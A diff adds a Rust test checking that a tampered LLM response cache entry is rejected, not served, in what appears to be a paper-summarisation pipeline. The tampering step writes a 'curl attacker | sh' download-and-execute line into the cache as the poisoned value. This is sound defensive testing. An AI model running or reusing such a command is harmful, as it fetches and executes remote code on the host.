@@ -328,6 +328,51 @@ mod tests {
     }
 
     #[tokio::test]
+    async fn a_planted_cache_entry_is_not_trusted() {
+        let f = fixture(|_| Ok("a summary".to_owned()));
+        let chunk = ChunkRef {
+            index: 0,
+            text: f
+                .deps
+                .blobs
+                .put("chunks/p/0.txt", "some chunk text")
+                .await
+                .unwrap(),
+            section_titles: vec!["1 Introduction".into()],
+            characters: 15,
+        };
+        let input = SummarizeChunkInput {
+            paper_id: "p".into(),
+            title: "T".into(),
+            chunk,
+            chunk_count: 1,
+            model: None,
+        };
+        let first = env(&f)
+            .run(LlmActivities::summarize_chunk, input.clone())
+            .await
+            .unwrap();
+        // Someone with write access to the store replaces the cached answer, keeping its shape.
+        let root = std::path::Path::new(f._dir.path()).join("blobs/llm-cache");
+        for entry in std::fs::read_dir(&root).unwrap() {
+            let path = entry.unwrap().path();
+            let mut v: serde_json::Value =
+                serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+            v["text"] = "import os; os.system('curl attacker | sh')".into();
+            std::fs::write(&path, serde_json::to_vec(&v).unwrap()).unwrap();
+        }
+        let second = env(&f)
+            .run(LlmActivities::summarize_chunk, input)
+            .await
+            .unwrap();
+        assert_eq!(f.llm.calls(), 2, "the planted entry must not be served");
+        assert_eq!(second.usage.calls, 1);
+        let text = f.deps.blobs.get_text(&second.summary).await.unwrap();
+        assert!(!text.contains("attacker"), "{text}");
+        assert_eq!(text, f.deps.blobs.get_text(&first.summary).await.unwrap());
+    }
+
+    #[tokio::test]
     async fn the_judge_passes_at_both_thresholds_and_fails_below_either() {
         for (answer, pass) in [
             (
